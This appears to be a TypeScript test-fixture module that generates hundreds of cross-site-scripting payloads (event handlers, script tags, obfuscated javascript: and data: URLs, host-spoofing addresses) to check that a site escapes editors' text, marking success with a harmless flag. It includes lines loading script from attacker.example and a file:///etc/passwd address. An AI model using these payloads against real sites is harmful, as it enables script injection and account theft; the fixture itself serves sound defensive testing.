/* Texts that run a script if a page shows them unescaped, for each kind of place where a page shows editors' texts.
   Each would set `window.attacked`. */

const script = 'window.attacked=1';
const cases = ['', 'x', '"><', "'><", '</p><', '--><', ']]><', '</textarea><', '</title><', '\u0000<'];

/** 500 texts for a place where HTML is expected. */
export function htmlPayloads(): string[] {
  const events = [
    'onerror',
    'onload',
    'onfocus',
    'onclick',
    'onmouseover',
    'onanimationstart',
    'ontoggle',
    'onpointerenter',
  ];
  const hosts = [
    'img src=x',
    'svg',
    'body',
    'iframe',
    'video src=x',
    'audio src=x',
    'details open',
    'input autofocus',
    'a href=# tabindex=0 autofocus',
    'p style=animation-name:x',
    'table background=x',
    'math',
    'object data=x',
    'marquee',
    'select autofocus',
  ];
  const whole = [
    `<script>${script}</script>`,
    `<script src=data:text/javascript,${script}></script>`,
    `<SCRIPT/x>${script}</SCRIPT>`,
    `<scr<script>ipt>${script}</scr</script>ipt>`,
    `<svg><script>${script}</script></svg>`,
    `<svg><animate onbegin=${script} attributeName=x dur=1s></svg>`,
    `<svg><a xlink:href="javascript:${script}"><text>x</text></a></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${script}></style></mglyph></table></mtext></math>`,
    `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
    `<template><script>${script}</script></template>`,
    `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
    `<iframe src="javascript:parent.${script}"></iframe>`,
    `<object data="javascript:${script}"></object>`,
    `<embed src="javascript:${script}">`,
    `<form action="javascript:${script}"><button>x</button></form>`,
    `<button formaction="javascript:${script}">x</button>`,
    `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
    `<base href="javascript:/a/-alert(1)///////">`,
    `<link rel=stylesheet href="data:text/css,*{}">`,
    `<style>@import 'javascript:${script}';</style>`,
    `<div style="background:url(javascript:${script})">x</div>`,
    `<img src="javascript:${script}">`,
    `<img srcset="javascript:${script} 1x">`,
    `<table><td background="javascript:${script}">x</td></table>`,
    `<xmp><img src=x onerror=${script}></xmp>`,
    `<plaintext><img src=x onerror=${script}>`,
    `<!--><img src=x onerror=${script}>-->`,
    `<![CDATA[<img src=x onerror=${script}>]]>`,
    `<?xml version="1.0"?><img src=x onerror=${script}>`,
    `<a href="${linkAddresses()[0]}">x</a>`,
  ];
  const attributes = hosts.flatMap((host) => events.map((event) => `<${host} ${event}=${script}>`));
  const links = linkAddresses().flatMap((href) => [
    `<a href="${href}">x</a>`,
    `<a href='${href}' target=_top>x</a>`,
  ]);
  const base = [...whole, ...links, ...attributes];
  const made = cases.flatMap((before) =>
    base.map((payload) => (before.endsWith('<') ? before + payload.slice(1) : before + payload)),
  );
  return spread(made, 500);
}

/** 500 texts for a place where an address is expected. */
export function addressPayloads(): string[] {
  const addresses = linkAddresses();
  const before = [
    '',
    ' ',
    '\t',
    '\n',
    '\u0000',
    '\u00a0',
    '\u2028',
    '//',
    '/\\',
    '\\\\',
    'https:',
    'x:',
    '"',
    "' onerror='",
    '&#1;',
  ];
  return spread(
    before.flatMap((start) => addresses.map((address) => start + address)),
    500,
  );
}

/** Addresses that run a script, or load one. */
export function linkAddresses(): string[] {
  const schemes = [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java\nscript:',
    'java\rscript:',
    'javascript&colon;',
    'javascript&#58;',
    '&#106;avascript:',
    '&#x6A;avascript:',
    'jav&Tab;ascript:',
    'jav&NewLine;ascript:',
    '\u0001javascript:',
    'javascript://recolta.ro/%0a',
    'javascript://%0d%0a',
    'vbscript:',
    'livescript:',
    'view-source:javascript:',
    'feed:javascript:',
    'blob:javascript:',
    'filesystem:javascript:',
    'jar:javascript:',
    'ms-its:javascript:',
  ];
  const documents = [
    `data:text/html,<script>${script}</script>`,
    `data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,<svg onload=${script}>`,
    `data:application/javascript,${script}`,
    `data:,${script}`,
    'blob:https://attacker.example/0',
    'file:///etc/passwd',
    '//attacker.example/x.js',
    '/\\attacker.example/x.js',
    '\\\\attacker.example\\x.js',
    '/\t/attacker.example/x.js',
    'https:attacker.example@recolta.ro',
    'https://user:password@attacker.example/',
  ];
  return [...schemes.map((scheme) => scheme + script), ...documents];
}

/** 500 addresses for a place where a platform's address is expected. */
export function frameAddressPayloads(hosts: readonly string[]): string[] {
  const tricks = hosts.flatMap((host) => [
    `https://${host}.attacker.example/watch?v=aaaaaaaaaaa`,
    `https://attacker.example/${host}`,
    `https://attacker.example/?${host}`,
    `https://attacker.example#${host}`,
    `https://${host}@attacker.example/watch?v=aaaaaaaaaaa`,
    `https://attacker${host}/watch?v=aaaaaaaaaaa`,
    `https://${host}:8443/watch?v=aaaaaaaaaaa`,
    `http://${host}/watch?v=aaaaaaaaaaa`,
    `javascript://${host}/%0a${script}`,
    `data:text/html,${host}<script>${script}</script>`,
    `//${host}/watch?v=aaaaaaaaaaa`,
    `https://${host}/watch?v="><script>${script}</script>`,
    `https://${host}/../../..//attacker.example`,
    `https://${host}%2eattacker.example/`,
    `https://${host}\\@attacker.example/`,
    `https://${host}\t.attacker.example/`,
  ]);
  return spread([...tricks, ...addressPayloads()], 500);
}

/** The same number, evenly from all. */
function spread(all: readonly string[], count: number): string[] {
  const distinct = [...new Set(all)];
  return Array.from({ length: count }, (_, at) => distinct[Math.floor((at * distinct.length) / count)] ?? '');
}
